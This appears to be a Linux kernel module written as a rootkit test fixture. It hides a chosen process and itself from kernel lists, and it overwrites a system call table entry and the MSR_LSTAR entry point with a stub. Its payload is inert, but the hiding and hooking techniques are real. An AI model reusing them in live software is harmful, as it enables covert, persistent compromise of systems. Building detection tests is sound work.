/*
 * What a rootkit does, for the tests: hide a process, hide itself, and put a function of its own into the system call table.
 * The addresses that it needs are parameters, because how real ones find them is beside the point.
 */
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/rculist.h>
#include <asm/msr.h>

static int pid;
module_param(pid, int, 0);
static unsigned long table;
module_param(table, ulong, 0);
static int number;
module_param(number, int, 0);
static bool hide;
module_param(hide, bool, 0);
static bool entry;
module_param(entry, bool, 0);

static asmlinkage long hook(const struct pt_regs *regs)
{
	return 42;
}

static void load_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory");
}

static void hook_system_call(void)
{
	unsigned long cr0 = read_cr0();

	load_cr0(cr0 & ~X86_CR0_WP);
	((volatile unsigned long *)table)[number] = (unsigned long)hook;
	load_cr0(cr0);
}

static int __init rootkit_init(void)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid ? pid_task(find_vpid(pid), PIDTYPE_PID) : NULL;
	if (task)
		list_del_init(&task->tasks);
	rcu_read_unlock();
	if (table)
		hook_system_call();
	if (entry)
		wrmsrl(MSR_LSTAR, (unsigned long)hook);
	if (hide)
		list_del_init(&THIS_MODULE->list);
	pr_info("rootkit: done\n");
	return 0;
}

module_init(rootkit_init);
MODULE_LICENSE("GPL");
